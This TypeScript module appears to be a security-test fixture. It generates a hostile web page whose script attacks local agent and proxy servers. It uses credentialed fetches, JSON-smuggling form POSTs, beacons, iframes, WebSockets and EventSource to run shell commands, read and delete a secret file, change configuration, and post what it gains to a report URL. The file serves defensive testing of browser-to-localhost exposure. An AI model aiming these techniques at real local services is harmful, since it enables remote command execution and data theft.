/** Where the page tries, and where it tells what it got. */
export interface Targets {
  readonly agent: string
  readonly proxy: string
  readonly report: string
  /** Stands in a file of the workspace, which only a reader of files has. */
  readonly secret: string
}

/** A page that does at once all that a page can do to servers beside it, and then reports all that it got hold of. */
export function hostilePage(targets: Targets): string {
  return `<!DOCTYPE html><body><script>(${ATTACK})(${JSON.stringify(targets)})</script></body>`
}

/** Runs in the browser, where there is a document. */
const ATTACK = `(targets) => {
  const { agent, proxy, report, secret } = targets
  const got = []
  const within = (ms, work) => Promise.race([work, new Promise((resolve) => setTimeout(resolve, ms))])
  const attempt = (work) => within(4000, work().catch(() => undefined))
  const body = (how) => JSON.stringify({ shell: 'touch hacked-by-' + how })
  const json = { 'Content-Type': 'application/json' }
  const asks = [
    [agent + '/api/status'], [agent + '/api/files?path=secret'], [agent + '/openapi.json'],
    [agent + '/api/exec', { method: 'POST', body: body('json'), headers: json }],
    [agent + '/api/exec', { method: 'POST', body: body('text'), headers: { 'Content-Type': 'text/plain' } }],
    [agent + '/api/exec', { method: 'POST', body: new Blob([body('blob')]) }],
    [agent + '/api/files?path=hacked-by-put', { method: 'PUT', body: 'x' }],
    [agent + '/api/files?path=secret', { method: 'DELETE' }],
    [proxy + '/health'], [proxy + '/metrics'], [proxy + '/api/config'], [proxy + '/api/requests'],
    [proxy + '/api/cache/export'], [proxy + '/api/cache', { method: 'DELETE' }],
    [proxy + '/api/config', { method: 'PATCH', body: '{"logging":{"level":"debug"}}' }],
    [proxy + '/api/cache/prewarm', { method: 'POST', body: '{"references":["http://x.test/"]}' }],
  ]
  const fetches = asks.flatMap(([url, init = {}]) => ['cors', 'no-cors', 'same-origin'].map((mode) =>
    attempt(async () => {
      const answer = await fetch(url, { ...init, mode, credentials: 'include' })
      const text = await answer.text()
      if (answer.ok && text !== '') got.push(mode + ' ' + url + ' ' + text.slice(0, 40))
    })))
  const framed = (attributes) => new Promise((resolve) => {
    const frame = document.createElement('iframe')
    frame.addEventListener('load', () => resolve(frame))
    Object.assign(frame, attributes)
    document.body.append(frame)
  })
  const forms = ['text/plain', 'multipart/form-data', 'application/x-www-form-urlencoded'].flatMap((enctype) =>
    [agent + '/api/exec', proxy + '/api/cache/prewarm', proxy + '/api/config'].map((action) => attempt(async () => {
      const form = document.createElement('form')
      const target = 'form' + Math.random()
      Object.assign(form, { method: 'POST', enctype, action, target })
      const field = document.createElement('input')
      // As text/plain this is JSON.
      Object.assign(field, { name: '{"shell":"touch hacked-by-form","x":"', value: '"}' })
      form.append(field)
      document.body.append(form)
      const landed = framed({ name: target })
      form.submit()
      await landed
    })))
  const parts = [['img', 'src'], ['script', 'src'], ['link', 'href']].flatMap(([tag, attribute]) =>
    [agent + '/api/files?path=secret.js', proxy + '/health'].map((url) => attempt(() => new Promise((resolve) => {
      const part = document.createElement(tag)
      if (tag === 'link') part.rel = 'stylesheet'
      part.addEventListener('load', () => { got.push(tag + ' ' + url); resolve() })
      part.addEventListener('error', resolve)
      part[attribute] = url
      document.body.append(part)
    }))))
  const frames = [agent + '/api/files?path=secret', proxy + '/health'].map((src) => attempt(async () => {
    const text = (await framed({ src })).contentDocument?.body?.innerText ?? ''
    if (text.includes(secret) || text.includes('uptime')) got.push('iframe ' + src)
  }))
  const sockets = [[], ['discobot.terminal'], ['discobot.token.AAAA']].map((protocols) => attempt(() =>
    new Promise((resolve) => {
      const socket = new WebSocket(agent.replace('http', 'ws') + '/api/terminal', protocols)
      socket.onopen = () => {
        got.push('WebSocket')
        socket.send('{"input":"touch hacked-by-socket\\\\n"}')
        setTimeout(resolve, 500)
      }
      socket.onerror = resolve
    })))
  const events = attempt(() => new Promise((resolve) => {
    const source = new EventSource(agent + '/api/services/proxy/logs', { withCredentials: true })
    source.onopen = () => { got.push('EventSource'); resolve() }
    source.onerror = () => { source.close(); resolve() }
  }))
  const run = async () => {
    navigator.sendBeacon(agent + '/api/exec', body('beacon'))
    navigator.sendBeacon(proxy + '/api/config', '{}')
    await Promise.all([...fetches, ...forms, ...parts, ...frames, ...sockets, events])
    if (globalThis.stolen !== undefined) got.push('script ran')
    await fetch(report, { method: 'POST', mode: 'no-cors', body: JSON.stringify(got) })
  }
  run()
}`
